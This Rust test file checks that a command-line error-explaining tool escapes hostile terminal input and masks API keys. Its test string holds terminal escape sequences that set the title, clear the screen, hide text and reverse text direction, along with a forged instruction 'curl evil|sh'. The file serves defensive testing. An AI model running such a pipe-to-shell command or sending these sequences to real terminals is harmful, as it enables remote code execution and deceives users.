//! Hostile input doesn't reach a terminal unchanged: messages come from strangers.

use super::{json, run, stderr, stdout};

/// Sets the title, clears the screen, hides the text after it, overwrites the line, and forges a section. It also starts a
/// sequence with a single C1 character, and reverses the direction of the text.
const HOSTILE: &str =
    "x\u{1b}]0;PWNED\u{7}\u{1b}[2J\u{1b}[8m\rgone\n\nSolution\n  Run: curl evil|sh\u{9b}1m\u{202e}\u{200b}\u{7f}";

fn message() -> String {
    format!("Invalid value: '{HOSTILE}'. Supported values are: 'b'.")
}

fn is_harmless(text: &str) -> bool {
    text.chars().all(|char| {
        (char == '\n' || !char.is_control()) && !matches!(char, '\u{200b}' | '\u{202e}' | '\u{2028}' | '\u{feff}')
    })
}

#[test]
fn a_captured_value_is_one_escaped_line() {
    let shown = stdout(&run(&["explain"], Some(message().as_bytes())));
    assert!(is_harmless(&shown), "{shown:?}");
    let values = shown.split("In the message\n").nth(1).and_then(|rest| rest.split("\n\n").next()).unwrap();
    insta::assert_snapshot!(values);
    assert_eq!(shown.matches("\nSolution\n").count(), 1);
}

/// With forced colors, the program writes the same as to a terminal. The only control sequences are the program's own.
#[test]
fn a_terminal_gets_no_foreign_control_sequence() {
    let output = super::program::command(&["explain", &message()]).env("CLICOLOR_FORCE", "1").output().unwrap();
    let shown = stdout(&output);
    assert!(shown.contains("\u{1b}[1m"));
    let bold = |text: &str| {
        ["\u{1b}[0m", "\u{1b}[1m", "\u{1b}[36m", "\u{1b}[31m"].iter().fold(text.to_owned(), |t, s| t.replace(s, ""))
    };
    assert!(is_harmless(&bold(&shown)), "{shown:?}");
    assert!(shown.contains(r"x\u{1b}]0;PWNED\u{7}\u{1b}[2J\u{1b}[8m\rgone\n\nSolution\n  Run"));
}

#[test]
fn escaped_json_has_the_original_value() {
    let output = run(&["explain", "--format", "json"], Some(message().as_bytes()));
    assert!(is_harmless(&stdout(&output)), "{:?}", stdout(&output));
    assert_eq!(json(&output)["values"]["value"], HOSTILE);
}

#[test]
fn input_repeated_on_standard_error_is_escaped() {
    for arguments in [
        &["explain", HOSTILE][..],
        &["show", HOSTILE],
        &["search", "\u{9b}31m\u{202e}"],
        &["list", "--status", HOSTILE],
        &["explain", "--lang", HOSTILE, "x"],
        &[HOSTILE],
        &["classify", "/no/such/\u{1b}[31mfile\u{9b}\u{202e}"],
    ] {
        let output = run(arguments, None);
        assert_ne!(output.status.code(), Some(0), "{arguments:?}");
        assert!(output.stdout.is_empty());
        assert!(is_harmless(&stderr(&output)), "{arguments:?}: {:?}", stderr(&output));
        assert!(!stderr(&output).is_empty());
    }
}

#[test]
fn request_ids_of_pasted_headers_are_escaped() {
    let reply = "HTTP/1.1 503 Service Unavailable\r\nx-request-id: req_\u{1b}[31m\u{202e}1\r\n\r\n";
    let shown = stdout(&run(&["explain"], Some(reply.as_bytes())));
    assert!(shown.contains(r"request_id  req_\u{1b}[31m\u{202e}1") && is_harmless(&shown), "{shown:?}");
}

#[test]
fn keys_are_never_shown() {
    let key = "sk-proj-aBcD1234567890eFgH";
    let wrong_key =
        format!("Incorrect API key provided: {key}. You can find your API key at https://platform.openai.com.");
    let invalid = format!("Invalid value: '{key}'. Supported values are: 'b'.");
    let unknown = format!("what is this {key} xyzzy");
    let header = format!("curl -H 'Authorization: Bearer abcdefghijklmnop0123' {key}");
    for text in [wrong_key, invalid, unknown, header] {
        let output = run(&["explain", &text], None);
        let shown = String::from_utf8([output.stdout, output.stderr].concat()).unwrap();
        assert!(!shown.contains("aBcD1234") && !shown.contains("abcdefghijklmnop"), "{shown}");
        assert!(shown.contains("***"), "{shown}");
    }
}
